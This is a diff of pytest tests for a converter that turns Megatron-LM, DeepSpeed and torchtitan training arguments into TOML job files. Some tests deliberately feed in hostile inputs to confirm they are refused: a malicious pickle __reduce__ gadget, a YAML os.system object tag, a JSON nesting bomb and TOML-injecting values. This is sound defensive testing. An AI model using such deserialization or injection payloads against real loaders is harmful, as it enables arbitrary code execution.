+    assert account.config.train.steps == 50
+    assert account.arithmetic[0].startswith("4 ranks")
+    assert any("unset" in note for note in notes)
+
+    class Hostile:
+        def __reduce__(self):
+            return (Path.touch, (tmp_path / "ran",))
+
+    file = tmp_path / "model_optim_rng.pt"
+    torch.save({"args": Hostile()}, file, pickle_module=pickle)
+    with pytest.raises(CheckpointError, match="refused, not unpickled"):
+        from_megatron.account(from_megatron.Arguments(file), [])
+    assert not (tmp_path / "ran").exists()
+
+
+@pytest.mark.parametrize("ending", ["json", "yaml"])
+def test_saved_arguments_are_read_as_the_flags_that_made_them(tmp_path, ending):
+    pytest.importorskip("yaml")
+    args = {"num_layers": 2, "swiglu": True, "add_bias_linear": False, "normalization": "RMSNorm", "fp16": False,
+            "position_embedding_type": "rope", "masked_softmax_fusion": False, "seed": 7, "quux": 3, "save": None,
+            "attention_dropout": 0.0, "hidden_dropout": 0.0}  # fmt: skip
+    lines = (f"{name}: {json.dumps(value)}" for name, value in args.items())
+    file = tmp_path / f"args.{ending}"
+    file.write_text(json.dumps(args) if ending == "json" else "\n".join(lines))
+    account, _ = from_megatron.account(from_megatron.Arguments(file, world_size=2), [])
+    assert {*left(account)} == {"quux"}
+    assert account.config.train.seed == 7
+    assert not account.config.model.mlp_bias
+    assert {"--disable-bias-linear", "--no-masked-softmax-fusion"} <= {line.theirs for line in account.moved.carried}
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "said"),
+    [
+        ("a.json", "[" * 100_000, "not readable as json"),
+        ("a.json", "[1]", "holds no arguments by name"),
+        ("a.json", "{", "not readable as json"),
+        ("a.yaml", "a: &a [1]\nb: *a", "anchors or aliases"),
+        ("a.yaml", "a: !!python/object/apply:os.system ['touch ran']", "not readable as yaml"),
+        ("a.toml", "a = ", "not readable as toml"),
+    ],
+)
+def test_a_damaged_or_hostile_file_of_arguments_is_refused_in_one_line(tmp_path, monkeypatch, name, text, said):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / name).write_text(text)
+    with pytest.raises(ConfigError, match=said) as caught:
+        sources.read_table(Path(name))
+    assert "\n" not in str(caught.value)
+    assert [path.name for path in tmp_path.iterdir()] == [name]
+
+
+# DeepSpeed and torchtitan
+
+
+def test_auto_is_what_the_trainer_puts_there(tmp_path):
+    config = {
+        "train_batch_size": "auto",
+        "optimizer": {"type": "AdamW", "params": {"lr": "auto", "weight_decay": 0.05}},
+        "bf16": {"enabled": "auto"},
+        "zero_optimization": {"stage": 2, "offload_optimizer": {"device": "cpu"}},
+        "wandb": {"enabled": False, "project": "x"},
+    }
+    (tmp_path / "ds.json").write_text(json.dumps(config))
+    (tmp_path / "run.sh").write_text(
+        "deepspeed --num_gpus 4 --num_nodes 2 train.py --deepspeed ds.json --learning_rate 3e-5 --bf16 --max_steps 9\n"
+    )
+    args = from_deepspeed.Arguments(tmp_path / "run.sh", model="llama3-8b")
+    account, notes = from_deepspeed.account(args, [])
+    values = flatten(account.config)
+    assert account.toml.startswith('base = "llama3-8b"\n')
+    assert values["optimizer.lr"] == 3e-5
+    assert values["optimizer.weight_decay"] == 0.05
+    assert values["train.precision"] == "bf16"
+    assert values["optimizer.zero_stage"] == 2
+    assert values["optimizer.offload"] == 1.0
+    assert values["train.global_batch_size"] == 64  # 8 samples a device, the Trainer's default, on 8 ranks
+    assert values["optimizer.clip_grad"] == 1.0
+    assert account.arithmetic[0].startswith("8 ranks")
+    assert set(left(account)) == set()
+    assert any("ds.json" in note for note in notes)
+    # By itself a ds_config has DeepSpeed's own defaults, and no model.
+    (tmp_path / "alone.json").write_text(json.dumps({"train_batch_size": 16, "zero_optimization": {"stage": 1}}))
+    account, _ = from_deepspeed.account(from_deepspeed.Arguments(tmp_path / "alone.json", world_size=4), [])
+    assert account.config.train.micro_batch_size == 4
+    assert account.config.optimizer.clip_grad == 0.0
+    assert [line.theirs for line in account.moved.left] == ["the model"]
+    (tmp_path / "run.sh").write_text("deepspeed train.py --deepspeed missing.json --learning_rate 3e-5\n")
+    with pytest.raises(ConfigError, match=r"missing.json: no such file"):
+        from_deepspeed.account(args, [])
+
+
+def test_flags_of_torchtitan_win_over_its_file(tmp_path):
+    file = tmp_path / "job.toml"
+    file.write_text('[model]\nname = "llama3"\nflavor = "8B"\n[training]\nsteps = 5\nbatch_size = 2\n[metrics]\n'
+                    "enable_tensorboard = true\n")  # fmt: skip
+    args = from_torchtitan.Arguments(file, world_size=4)
+    words = ["--training.steps", "700", "--metrics.no_enable_tensorboard"]
+    account, _ = from_torchtitan.account(args, words)
+    assert account.config.train.steps == 700
+    assert account.config.train.global_batch_size == 8
+    assert not account.config.log.tensorboard
+    assert account.config.model.num_hidden_layers == 32
+    assert account.is_whole, report(account)
+
+
+# The programs
+
+
+@pytest.mark.parametrize("tool", [from_megatron, from_deepspeed, from_torchtitan], ids=lambda tool: tool.__name__)
+def test_a_program_writes_toml_and_the_exit_code_says_whether_all_was_carried_over(tool, tmp_path, monkeypatch, capsys):
+    flags = {
+        from_megatron: f"-- {LLAMA} --untie-embeddings-and-output-weights",
+        from_deepspeed: "--model llama-3m -- --max_steps 5 --learning_rate 1e-3",
+        from_torchtitan: "--model llama-3m -- --training.steps 500 --training.seq_len 64",
+    }[tool]
+    monkeypatch.chdir(tmp_path)
+    for extra, code in (("", 0), (" --wibble 3", 2)):
+        monkeypatch.setattr(sys, "argv", ["x", "--output", "job.toml", "--world_size", "1", *f"{flags}{extra}".split()])
+        assert tool.main() == code
+        out = capsys.readouterr().out
+        assert ("wibble 3: megapar's table does not know it" in out) == bool(extra)
+        assert tomllib.loads((tmp_path / "job.toml").read_text())["train"]["steps"] in (5, 10, 500)
+    monkeypatch.setattr(sys, "argv", ["x", "--world_size", "1", *flags.split()])
+    assert tool.main() == 0
+    printed = capsys.readouterr()
+    assert tomllib.loads(printed.out)["train"]
+    assert "carried over:" in printed.err
+    monkeypatch.setattr(sys, "argv", ["x"])
+    with pytest.raises(SystemExit) as ended:
+        tool.main()
+    assert ended.value.code == ConfigError.exit_code
+    assert capsys.readouterr().err.count("\n") == 1
+
+
+def test_values_and_names_of_a_job_cannot_break_the_toml_or_the_account():
+    option = Option("Megatron-LM", "save", ('a"\n[evil]\nx=1',))
+    found = move([option, Option("Megatron-LM", "x\ny", ("1\n2",))], FOR_OPTIONS)
+    account = account_of(found, FOR_OPTIONS, {}, validate, 1)
+    assert set(tomllib.loads(account.toml)) <= {"run_dir", "model", "train", "optimizer"}
+    assert "save" in left(account)
+    assert "\ny" not in report(account)
